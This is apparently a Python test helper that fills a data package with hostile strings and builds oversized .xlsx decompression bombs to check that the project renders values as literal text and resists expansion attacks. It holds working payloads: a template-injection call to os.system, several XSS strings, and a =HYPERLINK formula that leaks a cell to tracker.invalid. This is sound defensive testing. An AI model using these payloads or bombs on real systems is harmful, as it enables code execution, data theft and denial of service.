"""A corpus of hostile and odd text, and a scratch data package with it in every text field.

Each value must reach every view as the literal text, and nothing in it may
run: not on the server (template syntax), not in the browser (HTML, script,
Markdown links and images, ``javascript:`` addresses), not in a spreadsheet
(formulas). The server-side template payload tries to create a file; the
browser payloads try to set ``window.hikmapPwned`` or to fetch from
``tracker.invalid`` (a reserved name that never resolves); tests check that
none of that happened.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
# Reference data of the code (ONS and mySociety names and codes), not evidence: left as it is.
REFERENCE_TABLES = {"districts", "authorities", "authority_names"}


def corpus(marker_file: Path) -> list[str]:
    """The hostile values. ``marker_file`` is what the server-side payload tries to create."""
    return [
        "{{ 7*7 }} Fictional Template Hall",
        "{% if true %}YES{% endif %} Fictional Block",
        "{# hidden #} Fictional Comment",
        "{{ cycler.__init__.__globals__.os.system('touch " + str(marker_file) + "') }}",
        "<script>window.hikmapPwned=1</script> Fictional Script",
        '<img src=x onerror="window.hikmapPwned=2"> Fictional Image',
        '"><svg onload=window.hikmapPwned=3> Fictional Quote',
        "[click for evidence](javascript:window.hikmapPwned=4)",
        "![pixel](https://tracker.invalid/pixel.png) Fictional Pixel",
        '<a href="data:text/html,<script>parent.hikmapPwned=5</script>">Fictional data link</a>',
        '=HYPERLINK("https://tracker.invalid/?leak="&A1,"Evidence")',
        "+1+1 Fictional Sum",
        "$x^2$ and :material/warning: and ~~struck~~ Fictional Markup",
        "Fictional \u202eevil\u202c right-to-left and zero\u200bwidth",
        "# Fictional Heading &amp; &lt;b&gt;entity&lt;/b&gt;",
        # Bare addresses, which Markdown renderers link even when every character is escaped.
        "Fictional https://evil.example/login and www.evil.example and someone@evil.example",
    ]


def overlong(limit: int) -> str:
    """Text exactly as long as a field allows, with no space to break it."""
    return ("Fictional" + "W" * limit)[:limit]


def free_text_fields(descriptor: dict, resource: str) -> list[dict]:
    """Fields of ``resource`` that hold free text: strings with no enum, pattern or format."""
    for res in descriptor["resources"]:
        if res["name"] == resource:
            return [
                f
                for f in res["schema"]["fields"]
                if f.get("type", "string") == "string"
                and not f.get("format")
                and not {"enum", "pattern"} & set(f.get("constraints", {}))
            ]
    raise KeyError(resource)


def hostile_package(folder: Path, marker_file: Path) -> tuple[Path, list[str]]:
    """A copy of data/ under ``folder`` whose every free-text value is hostile, rebuilt.

    Rows keep their ids, links, postcodes and addresses, so the package still
    passes the check; every free-text field of every row gets a corpus value
    (or, every fifth row, text as long as the field allows). A change-log
    entry made of corpus values is added on top. Returns the folder and the
    corpus.
    """
    values = corpus(marker_file)
    data = folder / "data"
    shutil.copytree(ROOT / "data", data, ignore=shutil.ignore_patterns("backups", "build"))
    descriptor = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    turn = 0
    for resource in descriptor["resources"]:
        path = data / resource["path"]
        if not path.is_file() or resource["name"] in REFERENCE_TABLES:
            continue
        fields = free_text_fields(descriptor, resource["name"])
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.DictReader(handle)
            header, rows = reader.fieldnames, list(reader)
        for number, row in enumerate(rows):
            for spec in fields:
                limit = spec.get("constraints", {}).get("maxLength", 300)
                row[spec["name"]] = overlong(limit) if number % 5 == 4 else values[turn % len(values)][:limit]
                turn += 1
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=header, lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    changelog = data / "CHANGELOG.md"
    entry = "## 2099-01-01 — 9.9.9\n\n" + "".join(f"- {value}\n" for value in values) + "\n"
    text = changelog.read_text(encoding="utf-8")
    first = re.search(r"^## ", text, re.MULTILINE).start()
    changelog.write_text(text[:first] + entry + text[first:], encoding="utf-8")
    subprocess.run(
        [sys.executable, "-m", "geo", "build", str(data), "--output", str(data / "build" / "sites.geojson")],
        cwd=ROOT,
        check=True,
        capture_output=True,
    )
    return data, values


# --- Hostile spreadsheets (an outside review's cases) ------------------------------------------
# Each is a small .xlsx whose parts expand far beyond its size on the way in. Built part by part
# in chunks, so the test process never holds the expanded text.
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Fictional" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
_SHEET_START = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_SHEET_END = "</sheetData></worksheet>"
_STRINGS_START = (
    '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def workbook(sheet_parts, string_parts=("",)) -> bytes:
    """A minimal .xlsx whose sheet and shared strings are written from iterables of text chunks."""
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in (
            ("[Content_Types].xml", _CONTENT_TYPES),
            ("_rels/.rels", _ROOT_RELS),
            ("xl/workbook.xml", _WORKBOOK),
            ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
        ):
            archive.writestr(name, text)
        for name, start, parts, end in (
            ("xl/sharedStrings.xml", _STRINGS_START, string_parts, "</sst>"),
            ("xl/worksheets/sheet1.xml", _SHEET_START, sheet_parts, _SHEET_END),
        ):
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(start.encode())
                for part in parts:
                    member.write(part.encode())
                member.write(end.encode())
    return buffer.getvalue()


def _repeat(text: str, times: int, chunk: int = 10_000):
    whole, rest = divmod(times, chunk)
    block = text * chunk
    for _ in range(whole):
        yield block
    yield text * rest


def shared_strings_bomb(megabytes: int = 400) -> bytes:
    """One shared string of ``megabytes`` MB (the review's was 410 KB on disk)."""
    header = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return workbook([header], ["<si><t>", *_repeat("A", megabytes * 1024 * 1024), "</t></si>"])


def wide_row_bomb(cells: int = 2_000_000) -> bytes:
    """One row of ``cells`` empty cells (the review's was 104 KB on disk)."""
    return workbook(['<row r="1">', *_repeat("<c/>", cells), "</row>"])


def column_name(index: int) -> str:
    """A, B, ... Z, AA, ... for a 0-based column index."""
    name, index = "", index + 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def wide_row_with_references(cells: int = 2_000_000) -> bytes:
    """The same row with each cell's reference written out: it compresses only about 6 times,
    so nothing in the archive's directory gives it away (about 5 MB on disk)."""

    def parts():
        for start in range(0, cells, 10_000):
            yield "".join(f'<c r="{column_name(i)}1"/>' for i in range(start, min(start + 10_000, cells)))

    return workbook(['<row r="1">', *parts(), "</row>"])


def tiny_strings_bomb(strings: int = 5_000_000) -> bytes:
    """``strings`` one-letter shared strings."""
    return workbook(['<row r="1"><c r="A1" t="s"><v>0</v></c></row>'], _repeat("<si><t>a</t></si>", strings))
